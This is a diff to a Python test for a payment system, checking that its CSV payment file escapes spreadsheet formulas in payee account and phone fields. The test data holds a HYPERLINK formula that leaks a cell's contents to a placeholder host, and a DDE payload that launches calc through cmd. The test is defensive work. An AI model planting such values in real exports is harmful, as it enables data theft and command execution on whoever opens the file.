@@ -86,14 +86,14 @@ def test_the_payment_file_guards_payee_accounts_against_spreadsheet_formulas(pay
     # The schemas refuse such accounts, but rows also arrive through imports and older versions: the file guards them.
     banked = make.owner(ir.clerk, ir.office, name="Rahim Asadi")
     operations.set_payout_account(banked, {"method": PaymentMethod.BANK, "bank_name": "Bank Melli",
-                                           "account_number": '=HYPERLINK("http://x.example/?"&A1,"IBAN")'}, ir.clerk)
+                                           "account_number": '=HYPERLINK("http://x.ex/?"&A1,"IBAN")'}, ir.clerk)
     phoned = make.owner(ir.clerk, ir.office, name="Zahra Karimi", phone="+98 915 555 0102")
     phoned.phone = "+1+cmd|' /C calc'!A0"
     payouts.approved(ir, owner=banked, **DAY)
     payouts.approved(ir, owner=phoned, incident_at=utcnow() - timedelta(days=5), **DAY)
     batch = payouts.batch(ir)
     accounts = [row[1] for row in csv.reader(io.StringIO(operations.payment_file(batch, ir.manager)))][1:]
-    assert accounts == ['\'=HYPERLINK("http://x.example/?"&A1,"IBAN")', "'+1+cmd|' /C calc'!A0"]
+    assert accounts == ['\'=HYPERLINK("http://x.ex/?"&A1,"IBAN")', "'+1+cmd|' /C calc'!A0"]
 
 
 def test_confirming_pays_the_claim_once(payouts, ir):
